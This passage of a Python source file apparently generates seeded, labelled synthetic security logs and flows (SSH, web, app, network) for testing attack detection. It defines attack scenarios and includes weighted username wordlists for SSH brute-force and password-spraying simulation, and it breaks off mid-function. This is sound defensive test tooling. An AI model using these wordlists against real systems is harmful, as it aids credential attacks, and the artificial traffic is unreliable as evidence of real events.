"""Seeded, reproducible generator of realistic labelled security traffic.

It produces the raw bytes shippers would put on the raw Kafka topics: sshd syslog lines,
Apache/nginx combined access-log lines (with a trailing request time), JSON application
log records (topic family "logs") and minimal-schema JSON flow records ("flows").
Ground truth travels only in `RawEvent.label` / `RawEvent.actor`, never in a payload.

Benign traffic comes from a seeded population (internal staff workstations, servers,
external customers, a NAT'd office, search-engine crawlers, a monitoring host, a backup
host, a CI host) and contains deliberate confusers: password typos, health-check floods,
huge backup flows, search queries with quotes/"select", many users behind one IP, service
incidents with bursts of errors, TCP health probes to many ports.

Attacks run over a sub-interval of the run (start in the first half, 60-300 s long):
brute_force, password_spraying, credential_stuffing, port_scan, ddos, sql_injection, xss,
path_traversal. Every event an attacker produces during its attack carries the scenario
label; every other event is benign.

Determinism: each component draws from its own `random.Random` seeded with a string derived
from `ScenarioConfig.seed` (string seeds are hashed with SHA-512, independent of
PYTHONHASHSEED); no global random state, no wall clock, no set iteration.

Pure Python (stdlib only).
"""

from __future__ import annotations

import heapq
import itertools
import json
import math
import random
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import datetime, timezone
from functools import lru_cache
from urllib.parse import quote, quote_plus

from .events import LABEL_BENIGN

__all__ = [
    "SCENARIO_LABELS",
    "ATTACK_LABELS",
    "TOPIC_LOGS",
    "TOPIC_FLOWS",
    "RawEvent",
    "ScenarioConfig",
    "generate",
    "iter_generate",
    "attackers",
    "normal_sources",
]

SCENARIO_LABELS: tuple[str, ...] = (
    LABEL_BENIGN,
    "brute_force",
    "password_spraying",
    "credential_stuffing",
    "port_scan",
    "ddos",
    "sql_injection",
    "xss",
    "path_traversal",
)
ATTACK_LABELS: tuple[str, ...] = SCENARIO_LABELS[1:]

TOPIC_LOGS = "logs"
TOPIC_FLOWS = "flows"

# Documentation ranges (RFC 5737): only attackers ever come from these.
_ATTACKER_NETS: tuple[str, ...] = ("203.0.113", "198.51.100", "192.0.2")


@dataclass(frozen=True, slots=True)
class RawEvent:
    """One raw record exactly as a shipper would produce it, with its ground truth."""

    topic: str  # "logs" or "flows" (the raw topic family it belongs on)
    ts_ms: int  # event time, integer ms since epoch (UTC)
    payload: bytes  # exactly what a shipper would produce
    label: str  # one of SCENARIO_LABELS
    actor: str  # the acting source: IP (or user for app-only events), for evaluation


@dataclass(frozen=True)
class ScenarioConfig:
    """What to generate. Same config -> byte-identical output."""

    seed: int = 0
    start: datetime = datetime(2026, 1, 5, 9, 0, tzinfo=timezone.utc)
    duration_s: float = 600.0
    benign_eps: float = 40.0  # average benign events per second (all kinds together)
    attacks: tuple[str, ...] = ATTACK_LABELS
    attack_intensity: float = 1.0  # scales attack event rates
    attackers_per_scenario: int = 2  # distinct attacking sources per scenario (ddos: one campaign of many bots)
    allowlisted_attacker: str | None = None  # if set (and brute_force is on), one brute_force attacker uses this IP


# --------------------------------------------------------------------------------------
# Wire formats
# --------------------------------------------------------------------------------------

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


@lru_cache(maxsize=8192)
def _syslog_ts(sec: int) -> str:
    """RFC 3164 timestamp, no year, day padded with a space: `Jan  5 09:00:01`."""
    t = time.gmtime(sec)
    return f"{_MONTHS[t.tm_mon - 1]} {t.tm_mday:>2} {t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d}"


@lru_cache(maxsize=8192)
def _clf_ts(sec: int) -> str:
    """Common-log timestamp: `05/Jan/2026:09:00:01 +0000`."""
    t = time.gmtime(sec)
    return (
        f"{t.tm_mday:02d}/{_MONTHS[t.tm_mon - 1]}/{t.tm_year:04d}:"
        f"{t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d} +0000"
    )


def _sshd_ev(ts: int, host: str, pid: int, msg: str, label: str, actor: str) -> RawEvent:
    payload = f"{_syslog_ts(ts // 1000)} {host} sshd[{pid}]: {msg}".encode()
    return RawEvent(TOPIC_LOGS, ts, payload, label, actor)


def _ssh_failed(user: str, valid: bool, ip: str, port: int) -> str:
    who = user if valid else f"invalid user {user}"
    return f"Failed password for {who} from {ip} port {port} ssh2"


def _ssh_accepted(user: str, ip: str, port: int, method: str = "password") -> str:
    return f"Accepted {method} for {user} from {ip} port {port} ssh2"


def _access_ev(
    ts: int,
    ip: str,
    user: str | None,
    method: str,
    path: str,
    status: int,
    nbytes: int,
    referer: str | None,
    ua: str,
    rt_s: float,
    label: str,
    actor: str | None = None,
) -> RawEvent:
    """Combined log format plus nginx `$request_time` appended."""
    payload = (
        f'{ip} - {user or "-"} [{_clf_ts(ts // 1000)}] "{method} {path} HTTP/1.1" '
        f'{status} {nbytes} "{referer or "-"}" "{ua}" {rt_s:.3f}'
    ).encode()
    return RawEvent(TOPIC_LOGS, ts, payload, label, actor or ip)


def _app_ev(
    ts: int,
    level: str,
    service: str,
    message: str,
    label: str,
    actor: str,
    *,
    response_time_ms: float | None = None,
    status: int | None = None,
    src_ip: str | None = None,
    user: str | None = None,
    method: str | None = None,
    path: str | None = None,
) -> RawEvent:
    obj: dict[str, object] = {"ts": ts, "level": level, "service": service, "message": message}
    if response_time_ms is not None:
        obj["response_time_ms"] = round(float(response_time_ms), 1)
    if status is not None:
        obj["status"] = status
    if src_ip is not None:
        obj["src_ip"] = src_ip
    if user is not None:
        obj["user"] = user
    if method is not None:
        obj["method"] = method
    if path is not None:
        obj["path"] = path
    payload = json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode()
    return RawEvent(TOPIC_LOGS, ts, payload, label, actor)


def _flow_ev(
    ts: int,
    src: str,
    sport: int,
    dst: str,
    dport: int,
    proto: str,
    dur_ms: float,
    fp: int,
    bp: int,
    fb: int,
    bb: int,
    label: str,
    *,
    syn: int = 0,
    ack: int = 0,
    fin: int = 0,
    rst: int = 0,
    psh: int = 0,
    urg: int = 0,
) -> RawEvent:
    payload = (
        f'{{"ts":{ts},"src_ip":"{src}","src_port":{int(sport)},"dst_ip":"{dst}","dst_port":{int(dport)},'
        f'"protocol":"{proto}","duration_ms":{int(dur_ms)},"fwd_packets":{int(fp)},"bwd_packets":{int(bp)},'
        f'"fwd_bytes":{int(fb)},"bwd_bytes":{int(bb)},"flags":{{"syn":{int(syn)},"ack":{int(ack)},'
        f'"fin":{int(fin)},"rst":{int(rst)},"psh":{int(psh)},"urg":{int(urg)}}}}}'
    ).encode()
    return RawEvent(TOPIC_FLOWS, ts, payload, label, src)


def _tcp_flow(
    rng: random.Random,
    ts: int,
    src: str,
    dst: str,
    dport: int,
    fp: int,
    bp: int,
    fb: int,
    bb: int,
    dur_ms: float,
    label: str,
    *,
    rst_p: float = 0.02,
    sport: int | None = None,
) -> RawEvent:
    """An ordinary completed TCP connection."""
    fp = max(3, int(fp))
    bp = max(2, int(bp))
    fb = max(fb, fp * 40)
    bb = max(bb, bp * 40)
    rst = 1 if rng.random() < rst_p else 0
    fin = 0 if rst else 2
    data_pkts = max(1, (fp + bp) // 3)
    return _flow_ev(
        ts, src, sport if sport is not None else _eph(rng), dst, dport, "tcp", dur_ms, fp, bp, fb, bb, label,
        syn=1, ack=fp + bp - 1, fin=fin, rst=rst, psh=rng.randint(1, data_pkts),
    )


# --------------------------------------------------------------------------------------
# Small random helpers
# --------------------------------------------------------------------------------------


def _rng(seed: int, name: str) -> random.Random:
    return random.Random(f"streamguard.scenarios:{seed}:{name}")


def _eph(rng: random.Random) -> int:
    return rng.randint(32768, 60999)


def _lognorm(rng: random.Random, median: float, sigma: float) -> float:
    return rng.lognormvariate(math.log(median), sigma)


def _poisson(rng: random.Random, lam: float) -> int:
    if lam <= 0:
        return 0
    if lam > 50:
        return max(0, int(round(rng.gauss(lam, math.sqrt(lam)))))
    limit = math.exp(-lam)
    k, p = 0, rng.random()
    while p > limit:
        k += 1
        p *= rng.random()
    return k


def _weighted(rng: random.Random, items: tuple[tuple[object, float], ...]) -> object:
    r = rng.random() * sum(w for _, w in items)
    for item, w in items:
        r -= w
        if r < 0:
            return item
    return items[-1][0]


def _typo(rng: random.Random, word: str) -> str:
    if len(word) < 3:
        return word + word[-1]
    i = rng.randrange(len(word) - 1)
    out = word[:i] + word[i + 1] + word[i] + word[i + 2 :]
    return out if out != word else word + "1"


def _public_ip(rng: random.Random) -> str:
    """A random unicast address outside private, shared, loopback, link-local and documentation ranges."""
    first = rng.choice(_PUBLIC_FIRST_OCTETS)
    return f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _cgnat_ip(rng: random.Random) -> str:
    return f"100.{rng.randint(64, 127)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


_PUBLIC_FIRST_OCTETS: tuple[int, ...] = tuple(
    o for o in range(1, 224) if o not in {10, 100, 127, 169, 172, 192, 198, 203}
)

# --------------------------------------------------------------------------------------
# Vocabulary
# --------------------------------------------------------------------------------------

_FIRST = (
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "niaj", "olivia",
    "peggy", "rupert", "sybil", "trent", "victor", "walter", "amir", "bianca", "chen", "dmitri", "elena",
    "farah", "gustavo", "hana", "ines", "jamal", "kenji", "lucia", "marek", "nadia", "omar", "priya",
    "quinn", "rosa", "sanjay", "tomas", "ursula", "vera", "wei", "xavier", "yara", "zoe", "liam", "emma",
    "noah", "ava", "mia", "lucas", "sofia", "mateo", "chloe", "leo", "isla", "ethan", "maya", "aiden",
    "nora", "ryan", "lena", "owen", "ella", "jonas", "freya", "hugo", "ada", "felix", "iris", "oscar",
    "ruby", "theo", "clara", "max", "luna", "paul", "sara", "tariq", "helga", "ji-woo",
)
_LAST = (
    "smith", "johnson", "garcia", "miller", "davis", "martinez", "lopez", "wilson", "anderson", "thomas",
    "moore", "jackson", "martin", "lee", "thompson", "white", "harris", "clark", "lewis", "walker", "hall",
    "young", "king", "wright", "scott", "green", "baker", "adams", "nelson", "hill", "campbell", "mitchell",
    "roberts", "carter", "phillips", "evans", "turner", "torres", "parker", "collins", "edwards", "stewart",
    "morris", "murphy", "cook", "rogers", "morgan", "peterson", "cooper", "reed", "bailey", "bell", "kim",
    "nguyen", "patel", "schmidt", "novak", "kowalski", "rossi", "silva", "tanaka", "sato", "muller",
    "dubois", "jensen", "larsen", "okafor", "haddad",
)
_MAIL_DOMAINS = ("example.com", "example.org", "example.net", "mail.example", "inbox.example")

_BROWSER_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
)
_TOOL_UAS = (
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
)
_APP_UAS = ("ShopApp/5.12.1 (iPhone; iOS 18.2)", "ShopApp/5.12.0 (Android 14)", "okhttp/4.12.0")
_EXTERNAL_REFERERS = (
    None, None, "https://www.google.com/", "https://www.google.com/", "https://www.bing.com/",
    "https://duckduckgo.com/", "https://news.example/deals", "https://social.example/",
)
_CATEGORIES = ("shoes", "electronics", "home-kitchen", "outdoor", "toys", "books", "beauty", "sports", "garden", "office")
_SORTS = ("price_asc", "price_desc", "newest", "rating", "relevance")
_REFS = ("home", "search", "category", "recs", "cart", "email")
_COLORS = ("black", "white", "red", "navy", "green", "grey")
_CAMPAIGNS = ("winter_sale", "new_arrivals", "weekly_digest", "black_friday")
_HELP = ("shipping", "returns", "payment-methods", "contact", "size-guide", "warranty")
_BLOG = ("how-to-choose-running-shoes", "best-gifts-2025", "coffee-brewing-guide", "home-office-setup", "spring-cleaning-tips")
_SEARCH_NORMAL = (
    "running shoes", "wireless headphones", "coffee maker", "usb-c cable", "winter jacket", "yoga mat",
    "desk lamp", "gift card", "kids bike", "phone case", "laptop stand", "bluetooth speaker", "water bottle",
    "rain boots", "board games", "led strip", "standing desk", "4k monitor", "mechanical keyboard",
    "air fryer", "hiking backpack", "espresso beans", "noise cancelling", "tent 4 person", "garden hose",
)
# Benign queries that look a little like injection: quotes, SQL words, angle brackets.
_SEARCH_CONFUSERS = (
    "select comfort mattress", '"red dress"', "don't starve game", "o'reilly python book", "union jack flag",
    "drop earrings", "script writing book", "1=1 puzzle", "select fish oil", "tables and chairs",
    "rock 'n' roll vinyl", "where's waldo", "delete key caps", "insert coin sign", "alert bell for bike",
    "<3 mug", "kids' shoes", "men's watch", "order by date planner", "script font stencils",
)

_SERVICES_MEDIAN_MS = {
    "auth-api": 35.0,
    "search": 90.0,
    "inventory": 18.0,
    "cart": 25.0,
    "checkout": 160.0,
    "payments": 260.0,
    "notifications": 12.0,
}
_SERVICES = tuple(_SERVICES_MEDIAN_MS)

_BRUTE_USERS = (
    ("root", 12.0), ("admin", 4.0), ("ubuntu", 2.0), ("test", 2.0), ("user", 1.5), ("oracle", 1.0),
    ("postgres", 1.0), ("git", 1.0), ("pi", 1.0), ("guest", 1.0), ("ftpuser", 0.8), ("support", 0.8),
    ("deploy", 0.8), ("jenkins", 0.6), ("hadoop", 0.5), ("centos", 0.6), ("ec2-user", 0.6), ("nagios", 0.4),
    ("mysql", 0.6), ("ansible", 0.4), ("vagrant", 0.4), ("administrator", 0.6), ("dev", 0.5), ("backup", 0.5),
    ("tomcat", 0.4), ("steam", 0.3), ("minecraft", 0.3), ("es", 0.3), ("elastic", 0.3), ("test1", 0.4),
)
_SPRAY_GENERIC = (
    "admin", "administrator", "sysadmin", "support", "info", "sales", "hr", "it", "helpdesk", "office",
    "user1", "test1", "backup", "webmaster", "postmaster", "operator", "manager", "service", "guest",
    "training", "scanner", "printer", "reception", "accounts", "finance", "marketing", "dev", "developer",
    "intern", "temp", "jsmith", "mjones", "dbadmin", "security", "audit",
)

_SITE = "shop.example"


# --------------------------------------------------------------------------------------
# The plan: population, attackers, attack windows, service incidents
# --------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Staff:
    web_user: str  # first.last
    ssh_user: str  # flast
    ip: str  # workstation
    ua: str


@dataclass(frozen=True, slots=True)
class _Customer:
    ip: str
    account: str | None
    ua: str


@dataclass(frozen=True)
class _Population:
    servers: dict[str, str]  # hostname -> ip (insertion order is fixed)
    staff: tuple[_Staff, ...]
    admins: tuple[_Staff, ...]
    customers: tuple[_Customer, ...]
    nat_ip: str
    nat_users: tuple[str, ...]
    monitor_ip: str
    ci_ip: str
    backup_ip: str
    crawlers: tuple[tuple[str, str], ...]  # (ip, ua)
    external_dsts: tuple[str, ...]
    resolvers: tuple[str, ...]
    offsite_ip: str
    asset_hash: str
    valid_ssh_users: frozenset[str]

    def source_ips(self) -> list[str]:
        out = list(self.servers.values())
        out += [s.ip for s in self.staff]
        out += [c.ip for c in self.customers]
        out += [self.nat_ip, self.monitor_ip, self.ci_ip, self.backup_ip]
        out += [ip for ip, _ in self.crawlers]
        return out


@dataclass(frozen=True, slots=True)
class _Attack:
    label: str
    index: int
    actors: tuple[str, ...]
    start_ms: int
    end_ms: int


@dataclass(frozen=True)
class _Plan:
    start_ms: int
    end_ms: int
    pop: _Population
    attacks: tuple[_Attack, ...]
    incidents: tuple[tuple[str, int, int], ...]  # (service, start_ms, end_ms)


def _validate(cfg: ScenarioConfig) -> None:
    if not (cfg.duration_s > 0 and math.isfinite(cfg.duration_s)):
        raise ValueError("duration_s must be a positive finite number")
    if not (cfg.benign_eps >= 0 and math.isfinite(cfg.benign_eps)):
        raise ValueError("benign_eps must be a non-negative finite number")
    if not (cfg.attack_intensity > 0 and math.isfinite(cfg.attack_intensity)):
        raise ValueError("attack_intensity must be a positive finite number")
    if cfg.attackers_per_scenario < 1:
        raise ValueError("attackers_per_scenario must be >= 1")
    unknown = [a for a in cfg.attacks if a not in ATTACK_LABELS]
    if unknown:
        raise ValueError(f"unknown attack scenario(s): {unknown}; known: {ATTACK_LABELS}")


def _start_ms(start: datetime) -> int:
    if start.tzinfo is None:
        start = start.replace(tzinfo=timezone.utc)
    delta = start - datetime(1970, 1, 1, tzinfo=timezone.utc)
    return (delta.days * 86_400 + delta.seconds) * 1000 + delta.microseconds // 1000


def _build_population(seed: int) -> _Population:
    rng = _rng(seed, "population")
    server_net = f"10.{rng.randint(0, 31)}.{rng.randint(0, 15)}"
    host_octets = rng.sample(range(2, 250), 11)
    names = ("dns-01", "bastion", "web-01", "web-02", "api-01", "auth-01", "db-01", "backup-01")
    servers = {name: f"{server_net}.{host_octets[i]}" for i, name in enumerate(names)}
    monitor_ip, ci_ip, backup_ip = (f"{server_net}.{o}" for o in host_octets[8:11])

    client_net = f"10.{rng.randint(64, 250)}"
    used_ips: set[str] = set(servers.values()) | {monitor_ip, ci_ip, backup_ip}
    people = rng.sample([(f, l) for f in _FIRST for l in _LAST], 60 + 30 + 400)
    staff: list[_Staff] = []
    ssh_names: set[str] = set()
    for first, last in people[:60]:
        while True:
            ip = f"{client_net}.{rng.randint(1, 8)}.{rng.randint(2, 250)}"
            if ip not in used_ips:
                used_ips.add(ip)
                break
        ssh = f"{first[0]}{last}".replace("-", "")
        while ssh in ssh_names:
            ssh += str(rng.randint(1, 9))
        ssh_names.add(ssh)
        staff.append(_Staff(f"{first}.{last}", ssh, ip, rng.choice(_BROWSER_UAS)))
    admins = tuple(rng.sample(staff, 6))

    def account(first: str, last: str) -> str:
        style = rng.random()
        if style < 0.35:
            return f"{first}.{last}@{rng.choice(_MAIL_DOMAINS)}"
        if style < 0.6:
            return f"{first}{rng.randint(1, 99)}"
        if style < 0.8:
            return f"{first}_{last}"
        return f"{first[0]}{last}{rng.randint(70, 99)}"

    nat_users = tuple(f"{f}.{l}@partner.example" for f, l in people[60:90])
    customers: list[_Customer] = []
    for first, last in people[90:490]:
        while True:
            ip = _cgnat_ip(rng) if rng.random() < 0.6 else _public_ip(rng)
            if ip not in used_ips:
                used_ips.add(ip)
                break
        acct = account(first, last) if rng.random() < 0.7 else None
        customers.append(_Customer(ip, acct, rng.choice(_BROWSER_UAS)))
    while True:
        nat_ip = _public_ip(rng)
        if nat_ip not in used_ips:
            used_ips.add(nat_ip)
            break
    google = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    bing = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
    crawlers = []
    for prefix, ua, n in (("66.249.66", google, 3), ("157.55.39", bing, 2)):
        for o in rng.sample(range(1, 250), n):
            ip = f"{prefix}.{o}"
            used_ips.add(ip)
            crawlers.append((ip, ua))
    external = tuple(_public_ip(rng) for _ in range(40))
    valid = frozenset({"root", "deploy"} | ssh_names)
    return _Population(
        servers=servers,
        staff=tuple(staff),
        admins=admins,
        customers=tuple(customers),
        nat_ip=nat_ip,
        nat_users=nat_users,
        monitor_ip=monitor_ip,
        ci_ip=ci_ip,
        backup_ip=backup_ip,
        crawlers=tuple(crawlers),
        external_dsts=external,
        resolvers=("8.8.8.8", "1.1.1.1", "9.9.9.9"),
        offsite_ip=_public_ip(rng),
        asset_hash=f"{rng.getrandbits(32):08x}",
        valid_ssh_users=valid,
    )


def _plan(cfg: ScenarioConfig) -> _Plan:
    try:
        return _plan_cached(cfg)
    except TypeError:  # an unhashable field (e.g. attacks given as a list)
        return _make_plan(cfg)


@lru_cache(maxsize=16)
def _plan_cached(cfg: ScenarioConfig) -> _Plan:
    return _make_plan(cfg)


def _make_plan(cfg: ScenarioConfig) -> _Plan:
    _validate(cfg)
    start_ms = _start_ms(cfg.start)
    end_ms = start_ms + int(round(cfg.duration_s * 1000))
    pop = _build_population(cfg.seed)
    dur = cfg.duration_s

    # Attacker addresses: unique across scenarios, from the documentation ranges.
    arng = _rng(cfg.seed, "attackers")
    pool = [f"{net}.{o}" for net in _ATTACKER_NETS for o in range(1, 255)]
    pool = [ip for ip in pool if ip != cfg.allowlisted_attacker]
    arng.shuffle(pool)
    wanted = list(dict.fromkeys(cfg.attacks))
    per = cfg.attackers_per_scenario
    needed = per * sum(1 for a in wanted if a != "ddos")
    if needed > len(pool):
        raise ValueError(f"attackers_per_scenario too large: need {needed} attacker IPs, have {len(pool)}")
    benign_ips = set(pop.source_ips())
    attacks: list[_Attack] = []
    next_ip = 0
    for label in ATTACK_LABELS:  # fixed order: the plan does not depend on the order of cfg.attacks
        if label not in wanted:
            continue
        wrng = _rng(cfg.seed, f"window:{label}")
        n_actors = 1 if label == "ddos" else per
        for i in range(n_actors):
            off = wrng.uniform(0.0, dur / 2.0)
            length = wrng.uniform(60.0, 300.0)
            a_start = start_ms + int(off * 1000)
            a_end = min(end_ms, a_start + int(length * 1000))
            if label == "ddos":
                brng = _rng(cfg.seed, "ddos-bots")
                bots: list[str] = []
                seen = set(benign_ips)
                for _ in range(brng.randint(50, 200)):
                    while True:
                        ip = _public_ip(brng)
                        if ip not in seen:
                            seen.add(ip)
                            bots.append(ip)
                            break
                actors = tuple(bots)
            elif label == "brute_force" and i == 0 and cfg.allowlisted_attacker:
                actors = (cfg.allowlisted_attacker,)
            else:
                actors = (pool[next_ip],)
                next_ip += 1
            attacks.append(_Attack(label, i, actors, a_start, a_end))

    irng = _rng(cfg.seed, "incidents")
    incidents = []
    for _ in range(max(1, _poisson(irng, dur / 250.0))):
        svc = irng.choice(("checkout", "search", "payments", "inventory", "auth-api", "cart"))
        s = start_ms + int(irng.uniform(0.0, dur) * 1000)
        incidents.append((svc, s, min(end_ms, s + int(irng.uniform(15.0, 60.0) * 1000))))
    incidents.sort(key=lambda x: x[1])
    return _Plan(start_ms, end_ms, pop, tuple(attacks), tuple(incidents))


class _Ctx:
    """Read-only run context shared by the components."""

    def __init__(self, cfg: ScenarioConfig, plan: _Plan) -> None:
        self.cfg = cfg
        self.plan = plan
        self.pop = plan.pop
        self.start_ms = plan.start_ms
        self.end_ms = plan.end_ms
        self.eps = cfg.benign_eps
        self.intensity = cfg.attack_intensity
        self.server_list = list(plan.pop.servers.items())

    def incident(self, service: str, ts: float) -> bool:
        for svc, s, e in self.plan.incidents:
            if svc == service and s <= ts < e:
                return True
        return False

    def pick_web_client(self, rng: random.Random) -> tuple[str, str | None, str]:
        """(ip, account or None, user agent) of someone browsing the shop."""
        pop = self.pop
        r = rng.random()
        if r < 0.62:
            c = rng.choice(pop.customers)
            return c.ip, c.account, c.ua
        if r < 0.82:
            return pop.nat_ip, rng.choice(pop.nat_users), rng.choice(_BROWSER_UAS)
        s = rng.choice(pop.staff)
        return s.ip, s.web_user, s.ua


def _poisson_starts(rng: random.Random, ctx: _Ctx, rate: float) -> Iterator[float]:
    """Arrival times (ms, float) of a Poisson process of `rate` per second over the run."""
    if rate <= 0:
        return
    t = ctx.start_ms + rng.expovariate(rate) * 1000.0
    while t < ctx.end_ms:
        yield t
        t += rng.expovariate(rate) * 1000.0


# --------------------------------------------------------------------------------------
# Benign components. Each yields (session_start_ms, events) with non-decreasing starts and
# every event at or after its session's start.
# --------------------------------------------------------------------------------------

B = LABEL_BENIGN

# Fractions of benign_eps per component, divided by the mean events each session makes.
_WEB_SHARE, _WEB_EVENTS_PER_SESSION = 0.40, 12.75
_API_SHARE, _API_EVENTS_PER_SESSION = 0.17, 6.2
_BACKGROUND_SHARE = 0.035
_FLOW_SHARE = 0.285
_SSH_SHARE, _SSH_EVENTS_PER_SESSION = 0.008, 2.05
_HEALTH_SHARE = 0.045
_PROBE_SHARE = 0.02
_BACKUP_SHARE = 0.002
_CRAWLER_SHARE, _CRAWLER_EVENTS_PER_SESSION = 0.02, 52.0


def _product_id(rng: random.Random) -> int:
    return min(4999, int(rng.paretovariate(0.8) * 30))


def _search_query(rng: random.Random) -> str:
    q = rng.choice(_SEARCH_CONFUSERS) if rng.random() < 0.1 else rng.choice(_SEARCH_NORMAL)
    enc = quote_plus(q)
    if "'" in q and rng.random() < 0.5:
        enc = enc.replace("%27", "'")  # some browsers leave apostrophes unencoded in the query
    return enc


def _pick_page(rng: random.Random, logged: bool) -> tuple[str, str, int, int, float]:
    """(method, path, status, bytes, request time s) of one benign page view."""
    r = rng.random()
    status, method = 200, "GET"
    if r < 0.12:
        path, med = "/", 0.035
    elif r < 0.45:
        pid = _product_id(rng)
        path, med = f"/products/{pid}", 0.045
        q = rng.random()
        if q < 0.4:
            path += f"?ref={rng.choice(_REFS)}"
        elif q < 0.45:
            path += f"?utm_source=newsletter&utm_medium=email&utm_campaign={rng.choice(_CAMPAIGNS)}"
        elif q < 0.5:
            path += f"?variant={rng.randint(1, 6)}&color={rng.choice(_COLORS)}"
        if rng.random() < 0.03:
            status = 404
    elif r < 0.60:
        path, med = f"/category/{rng.choice(_CATEGORIES)}", 0.06
        if rng.random() < 0.6:
            path += f"?page={rng.randint(1, 8)}&sort={rng.choice(_SORTS)}"
    elif r < 0.74:
        path, med = f"/search?q={_search_query(rng)}", 0.12
        if rng.random() < 0.3:
            path += f"&page={rng.randint(2, 5)}"
    elif r < 0.80:
        path, med = "/cart", 0.03
        if rng.random() < 0.3:
            method, path, status = "POST", "/cart/add", 302
    elif r < 0.84:
        path, med = "/checkout", 0.2
        if logged and rng.random() < 0.4:
            method, status = "POST", 303
    elif r < 0.89:
        path, med = rng.choice(("/account/orders", "/account/profile", "/account/addresses")), 0.05
        if not logged:
            status = 302
    elif r < 0.94:
        path, med = f"/help/{rng.choice(_HELP)}", 0.02
    elif r < 0.985:
        path, med = f"/blog/{rng.choice(_BLOG)}", 0.025
    else:
        path, med = rng.choice(("/promo/summer-sale-2024", "/products/old-catalog.pdf", "/apple-touch-icon.png", "/en/home")), 0.01
        status = 404
    if status == 200 and rng.random() < 0.003:
        status = 500
    elif status == 200 and method == "GET" and rng.random() < 0.03:
        status = 304
    if status == 200:
        nbytes = int(_lognorm(rng, 18000, 0.5))
    elif status == 404:
        nbytes = rng.randint(1100, 1800)
    elif status in (301, 302, 303):
        nbytes = rng.randint(0, 260)
    elif status == 304:
        nbytes = 0
    else:
        nbytes = rng.randint(380, 620)
    return method, path, status, nbytes, _lognorm(rng, med, 0.55)


def _assets(ctx: _Ctx, rng: random.Random, first: bool) -> list[tuple[str, int]]:
    """(path, median bytes) of the assets a page pulls in."""
    h = ctx.pop.asset_hash
    if first:
        base = [
            (f"/static/css/app.{h}.css", 42000),
            (f"/static/js/vendor.{h}.js", 210000),
            (f"/static/js/app.{h}.js", 64000),
            ("/static/fonts/inter-var.woff2", 48000),
            ("/static/img/logo.svg", 3500),
            ("/favicon.ico", 4200),
        ]
        return base[: rng.randint(3, 6)]
    return [(f"/images/products/{_product_id(rng)}_{rng.randint(1, 4)}.jpg", 42000) for _ in range(rng.randint(0, 3))]


def _web_login(
    ctx: _Ctx, rng: random.Random, t: float, ip: str, account: str, ua: str, referer: str | None, evs: list[RawEvent],
    failures: int = 0,
) -> float:
    nxt = rng.choice(("", "", "?next=%2Fcheckout", "?next=%2Faccount%2Forders"))
    evs.append(_access_ev(int(t), ip, None, "GET", f"/login{nxt}", 200, int(_lognorm(rng, 9000, 0.2)), referer, ua, _lognorm(rng, 0.02, 0.4), B))
    t += _lognorm(rng, 7000, 0.4)
    for _ in range(failures):
        evs.append(_access_ev(int(t), ip, account, "POST", "/login", 401, rng.randint(280, 340), f"https://{_SITE}/login", ua, _lognorm(rng, 0.06, 0.3), B))
        t += _lognorm(rng, 6000, 0.5)
    evs.append(_access_ev(int(t), ip, account, "POST", "/login", 200, rng.randint(400, 700), f"https://{_SITE}/login", ua, _lognorm(rng, 0.07, 0.3), B))
    return t + _lognorm(rng, 1500, 0.5)


def _web_component(ctx: _Ctx, rng: random.Random) -> Iterator[tuple[float, list[RawEvent]]]:
    rate = ctx.eps * _WEB_SHARE / _WEB_EVENTS_PER_SESSION
    for t0 in _poisson_starts(rng, ctx, rate):
        ip, account, ua = ctx.pick_web_client(rng)
        logged = account is not None and rng.random() < 0.3
        login_at = -1
        n_pages = 1 + min(int(rng.expovariate(0.25)), 30)
        if account is not None and not logged and rng.random() < 0.3:
            login_at = rng.randrange(n_pages)
        referer = rng.choice(_EXTERNAL_REFERERS)
        evs: list[RawEvent] = []
        t = t0
        for i in range(n_pages):
            if i == login_at and account is not None:
                fails = 1 if rng.random() < 0.05 else 0
                t = _web_login(ctx, rng, t, ip, account, ua, referer, evs, fails)
                logged = True
                referer = f"https://{_SITE}/login"
